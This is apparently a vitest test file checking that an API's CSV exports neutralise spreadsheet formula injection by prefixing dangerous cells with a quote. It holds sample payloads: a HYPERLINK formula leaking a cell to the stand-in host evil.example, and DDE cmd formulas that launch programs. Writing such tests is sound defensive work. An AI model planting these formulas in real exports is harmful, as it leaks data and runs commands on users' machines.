import { type TestApi, type TestUser, offerBody, startTestApi } from '@enlace/api/testing';
import { type CountryProgress, campaignProgressCsv } from '@enlace/registry/campaigns';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

/*
 * Staff open the service's CSV files in spreadsheets, which run a cell starting with
 * = + - @ (or a tab or carriage return) as a formula. Every such cell must come out
 * with a leading single quote, so that it shows as text.
 */

let api: TestApi;
let staff: TestUser;

beforeAll(async () => {
  api = await startTestApi({ label: 'csv_injection' });
  staff = await api.user('staff');
});
afterAll(() => api?.close());

const PAYLOADS = {
  '=': '=HYPERLINK("http://evil.example/?leak="&A1,"Ver detalles")',
  '+': "+cmd|' /C calc'!A0",
  '-': "-2+3+cmd|' /C notepad'!A0",
  '@': "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
};

/** The cells of a CSV document (RFC 4180 quoting), row by row. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  const endRow = () => {
    endCell();
    rows.push(row);
    row = [];
  };
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted && c === '"' && body[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      endCell();
    } else if (!quoted && c === '\n') {
      endRow();
    } else {
      cell += c;
    }
  }
  if (cell || row.length > 0) endRow();
  return rows;
}

const dangerous = (cells: string[][]) => cells.flat().filter((c) => /^[=+\-@\t\r]/.test(c));

describe('the listing export as CSV', () => {
  it('neutralises cells starting with =, +, - and @ in every column people write', async () => {
    const created = await api.app.inject({
      method: 'POST',
      url: '/v1/listings',
      headers: staff.headers,
      payload: offerBody('BR', {
        title: PAYLOADS['='],
        description: `${PAYLOADS['+']} e uma descrição longa o bastante.`,
        institution: { name: PAYLOADS['@'] },
        keywords: [PAYLOADS['-']],
        contact: { name: PAYLOADS['='], email: 'contato@example.org' },
      }),
    });
    expect(created.statusCode, created.body).toBe(201);

    const res = await api.app.inject({ url: '/v1/exports/listings?format=csv', headers: staff.headers });
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = parseCsv(res.body);
    const row = rows.find((r) => r[header!.indexOf('title')] === `'${PAYLOADS['=']}`);
    expect(row, res.body).toBeDefined();
    const cell = (column: string) => row![header!.indexOf(column)];
    expect(cell('description')).toBe(`'${PAYLOADS['+']} e uma descrição longa o bastante.`);
    expect(cell('institutionName')).toBe(`'${PAYLOADS['@']}`);
    expect(cell('keywords')).toBe(`'${PAYLOADS['-']}`);
    expect(cell('contactName')).toBe(`'${PAYLOADS['=']}`);
    expect(dangerous(rows)).toEqual([]);
  });
});

describe('the campaign progress CSV', () => {
  const row = (name: string): CountryProgress => ({
    country: 'HT',
    name,
    met: false,
    metAt: null,
    firstMessageAt: '2026-11-21T10:00:00.000Z',
    lastMessageAt: null,
    recipients: 2,
    offers: 0,
    demands: -1,
    experts: 0,
    toRenew: 0,
    deliveries: { queued: 1, sent: 0, failed: 0, bounced: 0, skipped: 0 },
  });

  it('neutralises cells starting with =, +, -, @, a tab or a carriage return, and keeps numbers as numbers', () => {
    const cells = parseCsv(campaignProgressCsv(Object.values(PAYLOADS).map(row)));
    const names = cells.slice(1).map((r) => r[1]);
    expect(names).toEqual(Object.values(PAYLOADS).map((p) => `'${p}`));
    expect(dangerous(cells.slice(1).map((r) => r.filter((_, i) => i !== cells[0]!.indexOf('demands'))))).toEqual([]);
    expect(cells[1]![cells[0]!.indexOf('demands')]).toBe('-1');
  });

  it('is what the progress.csv route answers', async () => {
    const created = await api.app.inject({
      method: 'POST',
      url: '/v1/campaigns',
      headers: staff.headers,
      payload: {
        name: 'Participación del Caribe',
        kind: 'participation',
        audience: { countries: ['HT', 'JM'] },
        goal: { count: 1 },
        messages: { en: { subject: 'Post an offer, {{country}}', body: 'Publish by {{deadline}}: {{link}}' } },
        defaultLanguage: 'en',
        deadline: '2026-12-31',
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const { id } = created.json();
    const csv = await api.app.inject({ url: `/v1/campaigns/${id}/progress.csv`, headers: staff.headers });
    expect(csv.statusCode, csv.body).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    const progress = (await api.app.inject({ url: `/v1/campaigns/${id}/progress`, headers: staff.headers })).json();
    expect(csv.body).toBe(campaignProgressCsv(progress.table));
    expect(
      parseCsv(csv.body)
        .slice(1)
        .map((r) => r.slice(0, 3)),
    ).toEqual([
      ['HT', 'Haiti', 'false'],
      ['JM', 'Jamaica', 'false'],
    ]);
  });
});
